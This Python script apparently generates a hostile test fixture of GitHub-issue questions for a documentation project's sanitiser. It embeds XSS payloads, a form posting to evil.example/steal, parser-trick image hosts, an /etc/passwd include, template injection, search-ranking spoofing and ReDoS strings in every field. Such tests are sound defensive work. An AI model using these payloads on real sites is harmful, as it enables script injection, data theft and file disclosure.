"""Write tests/hostile/questions.json: a snapshot with hostile input in every field.

Run it after changing the corpus: `python tests/hostile/make_snapshot.py`.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent.parent / "src"))

from openbook.questions import snapshot  # noqa: E402

REPO = "larkspur-hq/openbook-hub"
BASE = f"https://github.com/{REPO}/issues"

# Images from another host, spelled so that only a browser's URL parser (WHATWG) sees the host:
# (alt text, src as written). Each host is named for its spelling.
IMAGE_VARIANTS = [
    ("space", " //evil-space.example/p.png"),
    ("tab", "\t//evil-tab.example/p.png"),
    ("newline", "\n//evil-newline.example/p.png"),
    ("entity", "&#32;//evil-entity.example/p.png"),
    ("slashes", "///evil-slashes.example/p.png"),
    ("backslash", "/\\evil-backslash.example/p.png"),
    ("backslashes", "\\\\evil-backslashes.example/p.png"),
    ("scheme", "https:evil-scheme.example/p.png"),
    ("upper", "HTTPS:evil-upper.example/p.png"),
]
# Each of these lands in titles, bodies, comments, labels and logins below.
PAYLOADS = [
    "<script>alert('script')</script>",
    "<img src=x onerror=alert('img')>",
    '"><svg onload=alert("svg")><circle r=1 /></svg>',
    "<iframe src=\"javascript:alert('iframe')\"></iframe>",
    "<form action=\"https://evil.example/steal\"><input name=p><button formaction=javascript:alert('f')>Go</button></form>",
    "[click me](javascript:alert('link')) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[case](JaVaScRiPt:alert('case')) [spaced](  javascript:alert('spaced')) [entity](&#106;avascript:alert('entity'))",
    "[ref link][evil]\n\n[evil]: javascript:alert('ref')",
    "![js image](javascript:alert('jsimg')) ![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    # Spellings of another host that only a browser's URL parser (WHATWG) reads as one.
    "![tracking pixel](https://tracker.example/pixel.gif?reader=1)\n"
    + "\n".join(f'<img src="{src}" alt="{alt}">' for alt, src in IMAGE_VARIANTS)
    + "\n![md slashes](///evil-md.example/p.png)",
    "Styled paragraph {onclick=alert('attr_list')}\n{: onmouseover=\"alert('attr_list2')\" }",
    '<div markdown="1" onclick="alert(\'md_in_html\')">md_in_html</div>',
    '--8<-- "/etc/passwd"',
    '--8<-- "mkdocs.yml"',
    ';--8<-- "mkdocs.yml"',
    "{{ config }} {{ config.extra }} {% for x in range(3) %}JINJA{{ x }}{% endfor %}",
    "</script><script>alert('jsonld')</script>",
    "<a href=\"javascript:alert('raw a')\">raw a</a> <a href=//evil.example/proto>proto</a>",
    "<details open ontoggle=alert('details')><summary>x</summary></details>",
    "<style>body{background:url(https://tracker.example/css.png)}</style>",
    "<link rel=stylesheet href=https://tracker.example/x.css><meta http-equiv=refresh content=\"0;url=javascript:alert('meta')\">",
    "<object data=\"javascript:alert('object')\"></object><embed src=\"javascript:alert('embed')\">",
    "<math><mi xlink:href=\"javascript:alert('math')\">x</mi></math>",
    "<base href=\"https://evil.example/\">",
    "<!--<img src=x onerror=alert('comment')>-->",
    "`<script>alert('code span')</script>`",
    # Search attributes: Pagefind would rank this text above the staff answer it claims to distill.
    '<div data-pagefind-filter="openbook_distills:/questions/8/" data-pagefind-weight="10" '
    'data-pagefind-meta="title:Official answer" data-pagefind-body>pagefind</div>'
    '<span DATA-PAGEFIND-SORT="date:2099" data-pagefind-ignore="all">x</span>\n{: data-pagefind-weight="10" }',
]
# Texts that made redaction backtrack: a run of characters an e-mail address may hold, then
# nothing it can end with. Each variant (other separators, dots, `+`, a long local part, many
# `@`, a long domain) with a real address that must still be removed.
SLOW = [
    "a-" * 4096 + "@b.b.!",
    "a." * 4096 + "@b.b.!",
    "a+" * 4096 + "@b.b.!",
    "a%_" * 2730 + "@b.b.!",
    "a" * 8192 + "@b.b.!",
    "a@" * 4096 + "!",
    "a@b." * 2048 + "!",
    "x@" + "b-b." * 2048 + "!",
    "x@" + "b\\." * 2730 + "!",
    "@ " + "1-" * 4096,
]
ALL = "\n\n".join(PAYLOADS)
GOOD = (
    "A normal answer with `inline code`, a [link](https://www.larkspur.example/help) and an image: "
    "![diagram](https://images.larkspur.example/diagram.png)\n\n"
    "```python\nprint('<b>not bold</b>')\n```\n\n"
    "| plan | price |\n|---|---|\n| Starter | 12 |\n\n"
    "See #101 and #999."
)


def reactions(up: int = 0) -> dict[str, int]:
    counts = dict.fromkeys(snapshot.REACTIONS, 0)
    counts["+1"] = up
    return counts


def question(number: int, title: str, body: str, login: str, labels: list[str], comments, **extra):
    return snapshot.Question(
        number=number,
        title=title,
        body=body,
        state=extra.get("state", "open"),
        state_reason=None,
        labels=tuple(labels),
        locked=False,
        author=snapshot.Author(login=login, association=extra.get("association", "NONE")),
        created_at="2026-10-01T09:00:00Z",
        updated_at="2026-10-02T09:00:00Z",
        closed_at=None,
        html_url=extra.get("html_url", f"{BASE}/{number}"),
        reactions=reactions(3),
        comments=tuple(comments),
    )


def comment(cid: int, number: int, login: str, body: str, association: str = "NONE", html_url: str | None = None):
    return snapshot.Comment(
        id=cid,
        author=snapshot.Author(login=login, association=association),
        body=body,
        created_at="2026-10-01T12:00:00Z",
        updated_at="2026-10-01T12:00:00Z",
        html_url=html_url or f"{BASE}/{number}#issuecomment-{cid}",
        reactions=reactions(1),
    )


def build() -> snapshot.Snapshot:
    items = []
    for index, payload in enumerate(PAYLOADS):
        number = 101 + index
        items.append(question(
            number,
            title=f"Q{number} {payload.splitlines()[0]}",
            body=f"{payload}\n\n{GOOD}",
            login=f"<img src=x onerror=alert('login{number}')>",
            labels=["question", "billing", payload.splitlines()[0][:50]],
            comments=[
                comment(number * 10, number, "<svg onload=alert('c')>", payload),
                comment(number * 10 + 1, number, "priya-larkspur", GOOD + "\n\n" + payload, "MEMBER",
                        html_url="javascript:alert('comment url')"),
            ],
            html_url="javascript:alert('issue url')" if index % 2 else f"{BASE}/{number}",
        ))
    items.append(question(
        200, "All payloads at once", ALL, "mallory", ["question", "<b onmouseover=alert('label')>x</b>"],
        [comment(2000, 200, "mallory", ALL), comment(2001, 200, "priya-larkspur", "Accepted answer: " + BASE + "/200#issuecomment-2000", "MEMBER")],
    ))
    items.append(question(
        201, "Long texts", "Where do I write? ana@example.com", "priya-larkspur", ["question"],
        [comment(2010 + index, 201, "priya-larkspur", f"Long text {index}: write to ana{index}@example.com. {text}",
                 "MEMBER") for index, text in enumerate(SLOW)],
        association="MEMBER",
    ))
    return snapshot.Snapshot(repo=REPO, api_url="https://api.github.com", synced_at="2026-11-21T06:00:00Z",
                             questions=tuple(items))


if __name__ == "__main__":
    text = snapshot.dumps(build())
    snapshot.from_dict(json.loads(text), "hostile")
    (HERE / "questions.json").write_text(text, encoding="utf-8")
    print("tests/hostile/questions.json written")
